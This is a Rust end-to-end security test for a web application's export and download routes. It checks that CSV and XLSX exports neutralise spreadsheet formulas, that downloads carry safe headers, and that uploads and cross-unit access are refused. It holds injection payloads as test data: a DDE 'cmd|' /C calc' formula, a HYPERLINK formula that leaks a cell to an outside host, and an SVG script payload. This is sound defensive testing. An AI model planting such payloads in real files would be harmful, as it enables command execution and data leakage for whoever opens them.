//! Exports and downloads: every download route (from the route registry and the OpenAPI
//! document) fetched after formula-like text was planted; no cell a spreadsheet evaluates,
//! and every download safely typed.

use super::e2e_common::{report_txt, Auth, Body, Client, Demo, Multipart};
use serde_json::{json, Value};
use std::collections::BTreeSet;

/// Text a spreadsheet would run if a cell began with it.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
];

struct Ctx {
    c: Client,
    admin: Auth,
    staff: Auth,
    staff_token: Auth,
    supervisor: Auth,
    /// The unit of the staff member (市科工局).
    unit: i64,
    /// A unit the staff member does not belong to.
    other_unit: i64,
    /// The root region.
    city: i64,
    /// The attachment (an SVG) of a ledger record of the staff's unit with formula-like text.
    attachment: i64,
    /// An upload of the staff's unit, published, whose uploader claimed `text/html`.
    upload: i64,
    year: i32,
}

fn setup(d: &Demo) -> Ctx {
    let c = d.c;
    let pw = d.passwords(&["admin", "kegongju", "dudao"]);
    let admin = c.must_login("admin", &pw["admin"]);
    let staff = c.must_login("kegongju", &pw["kegongju"]);
    let supervisor = c.must_login("dudao", &pw["dudao"]);
    let staff_token = c.token(&staff, "e2e-security");
    let me = c.get_json("/api/v1/me", &staff);
    let unit = me["units"][0]["id"].as_i64().expect("the staff's unit");
    let units = c.get_json("/api/v1/units", &admin);
    let other_unit = units
        .as_array()
        .or_else(|| units["items"].as_array())
        .expect("units")
        .iter()
        .map(|u| u["id"].as_i64().unwrap())
        .find(|id| *id != unit)
        .expect("a second unit");
    let regions = c.get_json("/api/v1/regions", &admin);
    let city = regions
        .as_array()
        .or_else(|| regions["items"].as_array())
        .expect("regions")
        .iter()
        .find(|r| r["parent_id"].is_null())
        .expect("the root region")["id"]
        .as_i64()
        .unwrap();
    let year = 2025;

    // Formula-like text in every kind of data the exports list.
    for (i, f) in FORMULAS.iter().enumerate() {
        // A failed login: lands in the audit log and /audit.csv.
        let r = c.call(
            "POST",
            "/api/v1/auth/login",
            &Auth::Anon,
            &Body::Json(json!({"login": f, "password": "wrong"})),
        );
        assert!(matches!(r.status, 401 | 403 | 422 | 429), "{}", r.snippet());
        // A unit: lands in the organisation exports and the supervisor's list.
        let r = c.call(
            "POST",
            "/api/v1/units",
            &admin,
            &Body::Json(json!({"region_id": city, "code": format!("E2ESEC{i}"),
                "name": format!("{f}青川测试局{i}"), "short_name": f, "kind": "department"})),
        );
        assert_eq!(
            r.status,
            201,
            "unit with formula-like name: {}",
            r.snippet()
        );
    }
    let created = c.call(
        "POST",
        &format!("/api/v1/units/{unit}/ledger/study"),
        &staff_token,
        &Body::Json(json!({
            "year": year,
            "fields": {
                "date": format!("{year}-03-02"),
                "form": "党组会学法",
                "topic": FORMULAS[0],
                "laws": [FORMULAS[1], FORMULAS[3]],
                "attendees": 9,
                "leader_present": true,
                "hours": 1.5
            }
        })),
    );
    assert_eq!(created.status, 201, "{}", created.snippet());
    let record = created.json()["record"]["id"].as_i64().unwrap();
    let att = c.call(
        "POST",
        &format!("/api/v1/ledger/records/{record}/attachments?filename=sign.svg"),
        &staff_token,
        &Body::Raw {
            content_type: "image/svg+xml".into(),
            bytes: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
                .to_vec(),
        },
    );
    assert_eq!(att.status, 201, "{}", att.snippet());
    let attachment = att.json()["id"].as_i64().unwrap();

    let form = Multipart::new().text("year", "2024").file(
        "file",
        "年度报告.txt",
        "text/html",
        report_txt("青川市科学技术和工业信息化局", 2024, 7).into_bytes(),
    );
    let r = c.call(
        "POST",
        &format!("/api/v1/units/{unit}/uploads"),
        &staff_token,
        &Body::Multipart(form),
    );
    assert_eq!(r.status, 201, "{}", r.snippet());
    let upload = r.json()["upload"]["id"].as_i64().unwrap();
    let r = c.call(
        "POST",
        &format!("/api/v1/uploads/{upload}/publish"),
        &admin,
        &Body::None,
    );
    assert!(r.is_success(), "publish: {}", r.snippet());

    Ctx {
        c,
        admin,
        staff,
        staff_token,
        supervisor,
        unit,
        other_unit,
        city,
        attachment,
        upload,
        year,
    }
}

/// What a download holds, for the formula check.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Holds {
    Csv,
    Xlsx,
    /// A file as uploaded (served back, never generated).
    File,
}

/// One download route with the request that exercises it.
struct Download {
    method: &'static str,
    /// The route as the route registry (and the OpenAPI document) writes it.
    route: &'static str,
    api: bool,
    holds: Holds,
    url: fn(&Ctx) -> String,
    who: fn(&Ctx) -> &Auth,
}

fn downloads() -> Vec<Download> {
    fn admin(x: &Ctx) -> &Auth {
        &x.admin
    }
    fn staff(x: &Ctx) -> &Auth {
        &x.staff
    }
    fn token(x: &Ctx) -> &Auth {
        &x.staff_token
    }
    fn supervisor(x: &Ctx) -> &Auth {
        &x.supervisor
    }
    vec![
        Download {
            method: "GET",
            route: "/audit.csv",
            api: false,
            holds: Holds::Csv,
            url: |_| "/audit.csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/regions/{id}/units.csv",
            api: false,
            holds: Holds::Csv,
            url: |x| format!("/regions/{}/units.csv", x.city),
            who: supervisor,
        },
        Download {
            method: "GET",
            route: "/admin/org/export.csv",
            api: false,
            holds: Holds::Csv,
            url: |_| "/admin/org/export.csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/admin/org/export.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |_| "/admin/org/export.xlsx".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/template.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |x| format!("/units/{}/ledger/study/template.xlsx", x.unit),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export.xlsx",
            api: false,
            holds: Holds::Xlsx,
            url: |x| format!("/units/{}/ledger/study/export.xlsx?year={}", x.unit, x.year),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export.csv",
            api: false,
            holds: Holds::Csv,
            url: |x| format!("/units/{}/ledger/study/export.csv?year={}", x.unit, x.year),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/ledger/attachments/{id}",
            api: false,
            holds: Holds::File,
            url: |x| format!("/ledger/attachments/{}", x.attachment),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/uploads/{id}/original",
            api: false,
            holds: Holds::File,
            url: |x| format!("/uploads/{}/original", x.upload),
            who: staff,
        },
        Download {
            method: "GET",
            route: "/org/export",
            api: true,
            holds: Holds::Csv,
            url: |_| "/api/v1/org/export?format=csv".into(),
            who: admin,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/template",
            api: true,
            holds: Holds::Xlsx,
            url: |x| format!("/api/v1/units/{}/ledger/study/template", x.unit),
            who: token,
        },
        Download {
            method: "GET",
            route: "/units/{id}/ledger/{kind}/export",
            api: true,
            holds: Holds::Csv,
            url: |x| {
                format!(
                    "/api/v1/units/{}/ledger/study/export?year={}&format=csv",
                    x.unit, x.year
                )
            },
            who: token,
        },
        Download {
            method: "GET",
            route: "/uploads/{id}/original",
            api: true,
            holds: Holds::File,
            url: |x| format!("/api/v1/uploads/{}/original", x.upload),
            who: token,
        },
        Download {
            method: "GET",
            route: "/ledger/attachments/{aid}",
            api: true,
            holds: Holds::File,
            url: |x| format!("/api/v1/ledger/attachments/{}", x.attachment),
            who: token,
        },
    ]
}

/// Page routes that send a file, from the router's registry ([`fazhi_web::routes`]): by
/// their name (`.csv`, `.xlsx`, an original, an attachment).
fn page_download_routes() -> BTreeSet<(String, String)> {
    fazhi_web::routes()
        .into_iter()
        .filter(|r| r.surface == fazhi_web::Surface::Page)
        .map(|r| (r.method.to_string(), r.path))
        .filter(|(m, path)| {
            m == "GET"
                && (path.ends_with(".csv")
                    || path.ends_with(".xlsx")
                    || path.ends_with("/original")
                    || path.contains("/attachments/")
                    || path.contains("export")
                    || path.contains("template")
                    || path.contains("download"))
        })
        .collect()
}

/// API operations that answer something other than JSON (a file), from the document.
fn api_download_routes(doc: &Value) -> BTreeSet<(String, String)> {
    let mut out = BTreeSet::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        for m in ["get", "post", "put", "patch", "delete"] {
            let Some(op) = item.get(m) else { continue };
            let Some(ok) = op["responses"]["200"]["content"].as_object() else {
                continue;
            };
            if ok.keys().any(|k| !k.contains("json")) {
                out.insert((m.to_uppercase(), path.clone()));
            }
        }
    }
    out
}

/// The content types a download may carry (the server's allow-list, written out again here
/// so that a widened list in the code shows up).
fn allowed_type(ct: &str) -> bool {
    let essence = ct.split(';').next().unwrap_or("").trim();
    matches!(
        essence,
        "application/octet-stream"
            | "application/pdf"
            | "text/plain"
            | "text/csv"
            | "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            | "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
}

#[test]
fn every_export_is_formula_neutral_and_every_download_safely_typed() {
    let d = Demo::start("security", 12, 1);
    let x = setup(&d);
    let table = downloads();

    // Coverage: every download route has its case, and every case is a route.
    let doc = x.c.get_json("/api/v1/openapi.json", &Auth::Anon);
    let pages: BTreeSet<(String, String)> = table
        .iter()
        .filter(|d| !d.api)
        .map(|d| (d.method.to_string(), d.route.to_string()))
        .collect();
    let apis: BTreeSet<(String, String)> = table
        .iter()
        .filter(|d| d.api)
        .map(|d| (d.method.to_string(), d.route.to_string()))
        .collect();
    let page_routes = page_download_routes();
    let api_routes = api_download_routes(&doc);
    let registered: BTreeSet<(String, String)> = fazhi_web::routes()
        .into_iter()
        .filter(|r| r.surface == fazhi_web::Surface::Api)
        .map(|r| (r.method.to_string(), r.path))
        .collect();
    assert!(
        api_routes.is_subset(&registered),
        "the served document names API downloads that are not registered: {:?}",
        api_routes.difference(&registered).collect::<Vec<_>>()
    );
    for (have, want, what) in [
        (
            &page_routes,
            &pages,
            "page download routes without a case in this test",
        ),
        (
            &pages,
            &page_routes,
            "cases for page routes that are no download route",
        ),
        (
            &api_routes,
            &apis,
            "API download operations without a case in this test",
        ),
        (
            &apis,
            &api_routes,
            "cases for API operations that are no download",
        ),
    ] {
        let missing: Vec<_> = have.difference(want).collect();
        assert_eq!(missing, Vec::<&(String, String)>::new(), "{what}");
    }

    let mut failures = Vec::new();
    for d in &table {
        let url = (d.url)(&x);
        let r = x.c.get(&url, (d.who)(&x));
        if r.status != 200 {
            failures.push(format!("{url}: status {} {}", r.status, r.snippet()));
            continue;
        }
        let ct = r.header("content-type").unwrap_or("").to_string();
        if !allowed_type(&ct) {
            failures.push(format!("{url}: content type {ct:?}"));
        }
        if r.header("x-content-type-options") != Some("nosniff") {
            failures.push(format!("{url}: no nosniff"));
        }
        let csp = r.header("content-security-policy").unwrap_or("");
        if !csp.split(';').any(|p| p.trim() == "sandbox") {
            failures.push(format!("{url}: CSP without sandbox: {csp:?}"));
        }
        if !r
            .header("content-disposition")
            .is_some_and(|v| v.starts_with("attachment"))
        {
            failures.push(format!("{url}: not an attachment"));
        }
        let format = match d.holds {
            Holds::Csv => Some(fazhi_sheet::Format::Csv),
            Holds::Xlsx => Some(fazhi_sheet::Format::Xlsx),
            Holds::File => None,
        };
        if let Some(format) = format {
            let cells = fazhi_sheet::formula_cells(&r.body, format);
            if !cells.is_empty() {
                failures.push(format!("{url}: cells a spreadsheet evaluates: {cells:?}"));
            }
        }
        // The planted text is really in the lists that should hold it (so the check above
        // looked at it, not at an empty file).
        let expect_planted = matches!(
            d.route,
            "/audit.csv" | "/admin/org/export.csv" | "/org/export" | "/regions/{id}/units.csv"
        ) || (d.route.contains("export") && d.route.contains("ledger"));
        if expect_planted && d.holds == Holds::Csv && !r.text().contains("HYPERLINK") {
            failures.push(format!("{url}: the planted formula-like text is missing"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // The public reads a published report without learning who uploaded it.
    let page = x.c.get(&format!("/uploads/{}", x.upload), &Auth::Anon);
    assert_eq!(page.status, 200);
    assert!(
        !page.text().contains("kegongju"),
        "the public page names the uploader"
    );
    let own = x.c.get(&format!("/uploads/{}", x.upload), &x.staff);
    assert!(
        own.text().contains("kegongju"),
        "the unit sees its uploader"
    );

    // A script or an SVG is no report: refused, not "checked".
    for (name, ct) in [
        ("a.js", "application/javascript"),
        ("a.svg", "image/svg+xml"),
    ] {
        let form =
            Multipart::new()
                .text("year", "2024")
                .file("file", name, ct, b"alert(1)".to_vec());
        let r = x.c.call(
            "POST",
            &format!("/api/v1/units/{}/uploads", x.unit),
            &x.staff_token,
            &Body::Multipart(form),
        );
        assert_eq!(r.status, 422, "{name}: {}", r.snippet());
    }

    // Another unit's unpublished upload does not exist for this staff member (404, as a
    // record of another unit), whether asked on the page or the API.
    let form = Multipart::new().text("year", "2024").file(
        "file",
        "报告.txt",
        "text/plain",
        report_txt("某单位", 2024, 9).into_bytes(),
    );
    let r = x.c.call(
        "POST",
        &format!("/api/v1/units/{}/uploads", x.other_unit),
        &x.admin,
        &Body::Multipart(form),
    );
    assert_eq!(r.status, 201, "{}", r.snippet());
    let theirs = r.json()["upload"]["id"].as_i64().unwrap();
    for url in [
        format!("/api/v1/uploads/{theirs}"),
        format!("/api/v1/uploads/{theirs}/original"),
        format!("/uploads/{theirs}/original"),
    ] {
        let r = x.c.get(&url, &x.staff_token);
        assert_eq!(r.status, 404, "{url}: {}", r.snippet());
    }
}
